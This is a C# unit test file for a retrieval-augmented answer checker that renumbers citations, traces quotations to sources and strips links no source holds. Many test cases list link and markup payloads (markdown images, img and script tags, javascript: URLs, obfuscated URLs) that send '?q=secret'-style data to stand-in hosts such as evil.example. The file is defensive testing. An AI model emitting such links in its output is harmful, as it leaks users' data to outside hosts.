using FsCheck.Xunit;
using RagPruner.Answering;
using RagPruner.Contexts;
using RagPruner.Tests.Support;

namespace RagPruner.Tests.Answering;

public sealed class AnswerCheckTests
{
    private static readonly Context[] s_kept = [Make.Context(2, "It leaves at nine. See https://ferry.example/times."), Make.Context(5, "Pets travel free.")];

    [Fact]
    public void Numbers_citations_in_order_of_first_mention()
    {
        var result = AnswerCheck.Check("Pets are free [2]. It leaves at nine [1][2].", s_kept);
        result.Text.ShouldBe("Pets are free [1]. It leaves at nine [2][1].");
        result.Citations.Select(c => c.ContextId).ShouldBe(["c5", "c2"]);
        result.Flags.ShouldBeEmpty();
    }

    [Fact]
    public void Removes_and_flags_a_citation_of_anything_else()
    {
        var result = AnswerCheck.Check("At nine [1, 7]. Really [9].", s_kept);
        result.Text.ShouldBe("At nine [1]. Really.");
        result.Flags.ShouldBe([AnswerFlags.UncitedSource]);
    }

    [Fact]
    public void Removes_and_flags_a_url_that_no_context_holds()
    {
        var result = AnswerCheck.Check("Claim at http://refunds.example.net/now, or [here](https://evil.example/x) [1].", s_kept);
        result.Text.ShouldBe("Claim at, or here [1].");
        result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
    }

    [Theory]
    [InlineData("![x](//evil.example/?q=secret)")]
    [InlineData("[x](ftp://evil.example/a)")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](mailto:evil@evil.example)")]
    [InlineData("[x](data:text/html,evil)")]
    [InlineData("[x](/relative/evil)")]
    [InlineData("[x]( <https://evil.example/a b> \"title\" )")]
    [InlineData("[![x](//evil.example/a.png)](https://evil.example)")]
    [InlineData("[x]: //evil.example/a")]
    [InlineData("<https://evil.example>")]
    [InlineData("https&#58;//evil.example")]
    [InlineData("https&colon;&sol;&sol;evil.example")]
    [InlineData("https:/evil.example")]
    [InlineData("https:\\\\evil.example\\a")]
    [InlineData("ht\u200Btps://evil.example/a")]
    [InlineData("javascript:evil()")]
    [InlineData("//evil.example/?q=1")]
    [InlineData("www.evil.example")]
    [InlineData("evil.com")]
    [InlineData("evil.example.museum/steal?q=1")]
    [InlineData("evil@evil.example")]
    [InlineData("https://ferry.example/times.evil")]
    [InlineData("https://evil-ferry.example/times")]
    public void Removes_and_flags_whatever_a_renderer_would_make_a_link_of(string link)
    {
        var result = AnswerCheck.Check($"At nine [1]\n{link}\nBye.", s_kept);
        result.Text.ShouldNotContain("evil");
        result.Text.ShouldContain("Bye.");
        result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
    }

    [Theory]
    [InlineData("<a href='//evil.example'>x</a>", "<a")]
    [InlineData("<img src=//evil.example/a.png", "<img")]
    [InlineData("<img/src=evil.png>", "<img")]
    [InlineData("<img \"<\" src=//16909060/?q=secret>", "<img")]
    [InlineData("<script>location='//16909060/?q='</script>", "<script")]
    [InlineData("![a [b] c](//16909060/?q=secret)", "](")]
    [InlineData("[a\\]b](/\\16909060/x)", "](")]
    [InlineData("[![x](https://ferry.example/times)](//16909060/?q=s)", "](//")]
    [InlineData("[a [b] c](java&#115;cript:alert(1))", "](")]
    [InlineData("![x](//16909060/a(b(c)))", "](")]
    [InlineData("![x](//16909060/?q=a<b)", "](")]
    [InlineData("![x](//16909060/?q=s \"a\\\"b\")", "](")]
    [InlineData("> [x]: //16909060/q", "]:")]
    [InlineData("[[[[[[[[[[x](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)](//1/q)", "](")]
    [InlineData("www.secret-data.evil.ninja#q", "www")]
    [InlineData("www.ёж.com/?q=secret", "www")]
    [InlineData("See https:/[9]/evil.example/?q=secret", "://")]
    [InlineData("evil[9].com/x?q=1", "evil.com")]
    public void Nothing_of_what_is_left_works(string markup, string works)
    {
        var result = AnswerCheck.Check($"At nine [1].\n{markup}\nBye.", s_kept);
        result.Text.ShouldNotContain(works);
        result.Text.ShouldContain("Bye.");
        result.Flags.ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData("<a", ' ')]
    [InlineData("[x](", ' ')]
    [InlineData("a", 'a')]
    [InlineData("", '.')]
    [InlineData("", '[')]
    public void A_long_answer_is_checked_in_no_time(string start, char filler) =>
        Should.CompleteIn(() => AnswerCheck.Check(start + new string(filler, 20_000), s_kept), TimeSpan.FromSeconds(5));

    [Fact]
    public void Half_a_character_costs_no_more_than_itself() =>
        AnswerCheck.Check("a\u200B\uD800 hello world", s_kept).Text.ShouldBe("a\uFFFD hello world");

    [Theory]
    [InlineData("If i <n> and step=2 holds, then go.\n\nNext paragraph > 3 [1].")]
    [InlineData("Use ASP.NET and Socket.IO [1].")]
    [InlineData("It ended.In 2020 it was new [1].")]
    [InlineData("Use List<string>, System.Text.Json or README.md at 10:30 [1].")]
    [InlineData("if a < b and c = d then std::vector // done [1]")]
    [InlineData("See [the times](https://ferry.example/times) [1].")]
    [InlineData("See <https://ferry.example/times> [1].")]
    [InlineData("Ask at ferry.example [1].")]
    [InlineData("It is in s3://bucket/c2 [1].")]
    [InlineData("Note: e.g. 3.5 mg/day, i.e. 1/2 tablet [1]")]
    public void Leaves_everything_else(string text) => AnswerCheck.Check(text, s_kept).ShouldSatisfyAllConditions(c => c.Text.ShouldBe(text), c => c.Flags.ShouldBeEmpty());

    [Fact]
    public void A_citation_that_is_a_link_is_a_citation()
    {
        var result = AnswerCheck.Check("Pets are free [2](https://ferry.example/times), at nine [1](https://evil.example).", s_kept);
        result.Text.ShouldBe("Pets are free [1], at nine [2].");
        result.Citations.Select(c => c.ContextId).ShouldBe(["c5", "c2"]);
        result.Flags.ShouldBe([AnswerFlags.ForeignUrl]);
    }

    [Fact]
    public void Does_not_take_a_url_for_a_longer_one_that_begins_alike() =>
        AnswerCheck.Check("See https://ferry.exam [1]", s_kept).Flags.ShouldBe([AnswerFlags.ForeignUrl]);

    [Fact]
    public void A_footnote_of_a_context_is_not_taken_for_a_citation() =>
        AnswerCheck.WithoutMarkers("Opened in 1932 [2], see list[0] and [a].").ShouldBe("Opened in 1932 (2), see list(0) and [a].");

    [Fact]
    public void Leaves_a_url_that_a_context_holds() =>
        AnswerCheck.Check("See https://ferry.example/times. [1]", s_kept).Text.ShouldBe("See https://ferry.example/times. [1]");

    [Fact]
    public void Traces_a_quotation_without_citation_to_the_contexts_that_hold_it()
    {
        var result = AnswerCheck.Check("at nine", s_kept);
        result.Text.ShouldBe("at nine [1]");
        result.Citations.Single().ContextId.ShouldBe("c2");
    }

    [Theory]
    [InlineData("1,5 mg", "Take 15 mg.")]
    [InlineData("$100", "It costs €100.")]
    [InlineData("C++", "It is written in C#.")]
    [InlineData("-5 degrees", "Up to 5 degrees.")]
    public void A_quotation_that_differs_in_a_sign_is_none(string answer, string context)
    {
        AnswerCheck.Check(answer, [Make.Context(1, context)]).Citations.ShouldBeEmpty();
        AnswerCheck.Check(answer, [Make.Context(1, $"So it is: {answer}, says who knows.")]).Citations.Count.ShouldBe(1);
    }

    [Theory]
    [InlineData("At ten")]
    [InlineData("Not in the sources.")]
    [InlineData("")]
    public void Cites_nothing_for_what_stands_in_no_context(string text) => AnswerCheck.Check(text, s_kept).Citations.ShouldBeEmpty();

    [Property]
    public void Whatever_a_model_says_only_kept_contexts_are_cited_and_every_offset_is_mapped(string? text, byte number)
    {
        var answer = $"{text} [{number}] {text}";
        var result = AnswerCheck.Check(answer, s_kept);
        result.Citations.ShouldAllBe(c => s_kept.Any(k => k.Id == c.ContextId));
        result.Map.Count.ShouldBe(answer.Length + 1);
        result.Map.ShouldBe(result.Map.Order());
        result.Map.ShouldAllBe(o => o <= result.Text.Length);
    }
}

public sealed class LowConfidenceTests
{
    [Fact]
    public void Joins_unsure_neighbours_and_counts_in_the_checked_text()
    {
        var generated = new GeneratedText("See [9] at nine sharp") { Tokens = [new("See", -0.1), new(" [9]", -0.1), new(" at", -0.2), new(" nine", -2), new(" sharp", -4)] };
        var text = AnswerCheck.Check(generated.Text, [Make.Context(1, "x")]);
        text.Text.ShouldBe("See at nine sharp");
        var span = LowConfidence.Spans(generated, text)!.Single();
        (text.Text.Substring(span.Start, span.Length), span.MeanLogprob).ShouldBe(("nine sharp", -3.0));
    }

    [Fact]
    public void Is_unknown_without_log_probabilities_or_where_one_is_missing()
    {
        var text = AnswerCheck.Check("nine", []);
        LowConfidence.Spans(new GeneratedText("nine"), text).ShouldBeNull();
        LowConfidence.Spans(new GeneratedText("nine") { Tokens = [new("nine", null)] }, text).ShouldBeNull();
    }

    [Fact]
    public void Is_empty_for_a_sure_answer() =>
        LowConfidence.Spans(new GeneratedText("nine") { Tokens = [new("nine", -0.1), new("\"", -5) { IsEnd = true }] }, AnswerCheck.Check("nine", [])).ShouldBe([]);
}
